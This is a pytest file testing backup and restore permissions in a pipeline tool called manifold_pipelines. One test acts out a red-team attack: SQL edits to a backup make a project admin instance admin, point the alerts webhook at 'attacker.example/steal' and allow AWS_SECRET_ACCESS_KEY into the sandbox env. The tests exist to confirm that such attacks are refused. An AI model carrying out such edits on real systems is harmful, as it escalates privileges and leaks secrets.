"""A restore replaces core.db whole: its users, their instance roles and the global settings
(the alerts webhook, the sandbox's env allow-list) become the truth of the home. So the
roles it is judged by are the instance-wide ones, of the home it replaces and of the backup
it brings in; a project admin who edits a backup of her own must not come out of a restore
as instance admin with the webhook pointing at her server. Every refusal is audited in the
target home when there is one, and nothing in it changes."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from manifold_pipelines import SeparatedDatabaseManager
from manifold_pipelines.backup import create_backup, restore_backup
from manifold_pipelines.core.permissions import PermissionDeniedError
from manifold_pipelines.errors import InvalidIdError
from manifold_tests.backup.conftest import Restore, edit_core, edit_manifest
from manifold_tests.cli.conftest import run_manifold

GOOD_HOOK = "http://127.0.0.1:9/good"


def _with_users(live: Path, tmp_path: Path) -> Path:
    """A backup whose core.db has users: ann admin of its only project, mallory a viewer,
    boss an instance admin."""
    with SeparatedDatabaseManager(live) as manager:
        for name, role in (("ann", "admin"), ("mallory", "viewer"), ("boss", None)):
            manager.create_user(name)
            if role:
                manager.set_role(name, "p", role)
        manager.set_instance_role("boss", "admin")
        return Path(create_backup(manager, tmp_path / "bk").folder)


def _denials(home: Path, user: str) -> list[str]:
    with SeparatedDatabaseManager(home) as manager:
        return [
            entry.details["action"]
            for entry in manager.audit_log(actor=user)
            if entry.action == "denied"
        ]


@pytest.mark.parametrize("user", ["mallory", "stranger", "ann"])
def test_a_backup_with_users_is_restored_only_by_one_of_its_instance_admins(
    restore: Restore, live: Path, tmp_path: Path, target: Path, user: str
) -> None:
    """ann is admin of every project in the backup, and still not enough: the backup's
    settings and instance roles would become the new home's."""
    folder = _with_users(live, tmp_path)
    restore(folder, target, user=user, error=PermissionDeniedError, words="an instance admin")
    assert not (target / "core.db").exists()
    restore(folder, target, user="boss")
    with SeparatedDatabaseManager(target) as manager:
        assert manager.get_latest_data("p", "important").data == [{"id": 1, "v": "backed up"}]


def test_the_local_admin_restores_a_backup_with_users(
    restore: Restore, live: Path, tmp_path: Path, target: Path
) -> None:
    restore(_with_users(live, tmp_path), target)
    with SeparatedDatabaseManager(target) as manager:
        assert manager.get_role("ann", "p") == "admin"


def test_a_project_admin_cannot_restore_an_edited_backup_to_become_instance_admin(
    restore: Restore, live: Path, tmp_path: Path
) -> None:
    """The red team's attack: admin of every project, she backs up, makes herself instance
    admin in the copy, points the webhook at her server, allows a secret in `env`, and
    restores over the live home with --force."""
    with SeparatedDatabaseManager(live) as manager:
        manager.create_user("ana")
        manager.set_role("ana", "p", "admin")
        manager.set_setting("alerts", {"webhookUrl": GOOD_HOOK})
    with SeparatedDatabaseManager(live, user="ana") as ana:
        folder = Path(create_backup(ana, tmp_path / "bk").folder)
    edit_core(
        folder,
        "UPDATE users SET instance_role = 'admin' WHERE id = 'ana'",
        'UPDATE settings SET value = \'{"webhookUrl": "http://attacker.example/steal"}\''
        " WHERE key = 'alerts'",
        "INSERT INTO settings (key, value, updated_at) VALUES ('sandbox',"
        " '{\"allowedEnv\": [\"AWS_SECRET_ACCESS_KEY\"]}', '2026-01-01T00:00:00+00:00')",
    )
    edit_manifest(folder, home=str(live.resolve()))
    restore(folder, live, user="ana", error=PermissionDeniedError, words="an instance admin")
    with SeparatedDatabaseManager(live) as manager:
        assert manager.get_settings() == {"alerts": {"webhookUrl": GOOD_HOOK}}
        assert [(u.id, u.instance_role) for u in manager.list_users()] == [("ana", None)]
    assert _denials(live, "ana") == ["replace this home from a backup"]


def test_replacing_a_home_needs_one_of_its_instance_admins(
    restore: Restore, folder: Path, live: Path
) -> None:
    """The backup has no users, so only the home it replaces can say who may: admin of its
    every project is not enough, its instance admin is."""
    with SeparatedDatabaseManager(live) as manager:
        manager.create_user("ann")
        manager.set_role("ann", "p", "admin")
        manager.import_data("p", "important", [{"id": 1, "v": "live"}])
    restore(folder, live, user="ann", error=PermissionDeniedError, words="an instance admin")
    with SeparatedDatabaseManager(live) as manager:
        assert manager.get_latest_data("p", "important").data == [{"id": 1, "v": "live"}]
        manager.set_instance_role("ann", "admin")
    restore(folder, live, user="ann")
    with SeparatedDatabaseManager(live) as manager:
        assert manager.get_latest_data("p", "important").data == [{"id": 1, "v": "backed up"}]


def test_a_refusal_by_the_backups_own_roles_is_audited_in_the_target(
    restore: Restore, live: Path, tmp_path: Path
) -> None:
    """ann is instance admin of the home, but in the backup she is only a project admin:
    restoring it would take her instance role away with everything else, so she may not."""
    folder = _with_users(live, tmp_path)
    with SeparatedDatabaseManager(live) as manager:
        manager.set_instance_role("ann", "admin")
        manager.import_data("p", "important", [{"id": 1, "v": "live"}])
    restore(folder, live, user="ann", error=PermissionDeniedError, words="an instance admin")
    assert _denials(live, "ann") == [
        "bring in this backup's users and settings (judged by its own roles)"
    ]
    with SeparatedDatabaseManager(live) as manager:
        assert manager.get_latest_data("p", "important").data == [{"id": 1, "v": "live"}]


def test_a_backup_made_by_an_older_manifold_is_checked_by_its_own_roles(
    restore: Restore, folder: Path, target: Path
) -> None:
    """A format-2 core.db (before instance admins) restores; its roles still decide."""
    golden = Path(__file__).parents[1] / "cases" / "core_db" / "format-2.db"
    (folder / "core.db").write_bytes(golden.read_bytes())
    edit_manifest(folder, sources={})
    restore(folder, target, user="ana", error=PermissionDeniedError, words="an instance admin")
    assert not (target / "core.db").exists()
    restore(folder, target)
    with SeparatedDatabaseManager(target) as manager:
        assert manager.get_role("ana", "shop") == "editor"


@pytest.mark.parametrize("user", ["", "../ann", "ann\n"], ids=["empty", "dotdot", "newline"])
def test_an_empty_or_malformed_acting_user_is_refused_not_taken_for_the_local_admin(
    live: Path, tmp_path: Path, target: Path, user: str
) -> None:
    folder = _with_users(live, tmp_path)
    done = run_manifold(target, "--user", user, "restore-backup", str(folder), "--force")
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith("Error: Acting user id") and "is not allowed" in done.stderr
    assert not (target / "core.db").exists()
    with pytest.raises(InvalidIdError, match="Acting user id"):
        restore_backup(folder, target, force=True, user=user)
    assert not (target / "core.db").exists()


@pytest.mark.parametrize("user", ["nobody", "vera", "ann"])
def test_a_backup_needs_admin_of_every_project(live: Path, tmp_path: Path, user: str) -> None:
    """A user sees only its own projects, but a backup copies all of core.db: judged on
    every project, not on the ones it sees."""
    with SeparatedDatabaseManager(live) as manager:
        manager.create_project(name="Other", id="other")
        for name, role in (("nobody", None), ("vera", "viewer"), ("ann", "admin")):
            manager.create_user(name)
            if role:
                manager.set_role(name, "p", role)
    with (
        SeparatedDatabaseManager(live, user=user) as someone,
        pytest.raises(PermissionDeniedError, match="back up"),
    ):
        create_backup(someone, tmp_path / "bk")
    assert not (tmp_path / "bk").exists()


def test_settings_come_back_with_the_backup(restore: Restore, live: Path, tmp_path: Path) -> None:
    """What the checks protect is real: a restore does bring the backup's settings in."""
    with SeparatedDatabaseManager(live) as manager:
        manager.set_setting("alerts", {"webhookUrl": GOOD_HOOK})
        folder = Path(create_backup(manager, tmp_path / "bk").folder)
    target = tmp_path / "fresh"
    restore(folder, target)
    with closing(sqlite3.connect(target / "core.db")) as conn:
        (value,) = conn.execute("SELECT value FROM settings WHERE key = 'alerts'").fetchone()
    assert json.loads(value) == {"webhookUrl": GOOD_HOOK}
